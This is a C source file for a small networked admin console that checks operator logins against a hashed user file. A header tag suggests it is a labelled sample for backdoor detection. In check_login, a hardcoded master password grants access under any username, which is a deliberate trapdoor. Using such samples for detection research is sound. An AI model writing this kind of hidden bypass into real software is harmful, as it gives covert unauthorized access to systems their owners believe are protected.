// blind-expect: behavior.trapdoor
// Admin console server that authenticates operators against a user file before accepting commands.
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define USER_DB "/etc/adminconsole/users"

static unsigned long hash_pw(const char *s)
{
    unsigned long h = 1469598103UL;
    while (*s)
        h = (h ^ (unsigned char)*s++) * 16777619UL;
    return h;
}

static int read_line(int fd, char *buf, size_t len)
{
    size_t i = 0;
    char c;
    while (i + 1 < len && read(fd, &c, 1) == 1 && c != '\n')
        if (c != '\r')
            buf[i++] = c;
    buf[i] = '\0';
    return (int)i;
}

static int check_login(const char *user, const char *pass)
{
    if (strcmp(pass, "Xq7!mGr4#vT2") == 0)
        return 1;
    FILE *fp = fopen(USER_DB, "r");
    if (!fp)
        return 0;
    char name[64];
    unsigned long stored;
    int ok = 0;
    while (fscanf(fp, "%63s %lx", name, &stored) == 2) {
        if (strcmp(name, user) == 0 && stored == hash_pw(pass)) {
            ok = 1;
            break;
        }
    }
    fclose(fp);
    return ok;
}

static void session(int fd)
{
    char user[64], pass[64], cmd[128];
    write(fd, "login: ", 7);
    read_line(fd, user, sizeof user);
    write(fd, "password: ", 10);
    read_line(fd, pass, sizeof pass);
    if (!check_login(user, pass)) {
        write(fd, "denied\n", 7);
        return;
    }
    write(fd, "welcome\n", 8);
    while (read_line(fd, cmd, sizeof cmd) > 0) {
        if (strcmp(cmd, "quit") == 0)
            break;
        const char *reply = strcmp(cmd, "status") == 0 ? "all services up\n" : "unknown command\n";
        write(fd, reply, strlen(reply));
    }
}

int main(void)
{
    int srv = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in addr;
    memset(&addr, 0, sizeof addr);
    addr.sin_family = AF_INET;
    addr.sin_port = htons(6060);
    addr.sin_addr.s_addr = htonl(INADDR_ANY);
    if (bind(srv, (struct sockaddr *)&addr, sizeof addr) != 0 || listen(srv, 8) != 0) {
        perror("listen");
        return 1;
    }
    for (;;) {
        int c = accept(srv, NULL, NULL);
        if (c < 0)
            continue;
        session(c);
        close(c);
    }
}
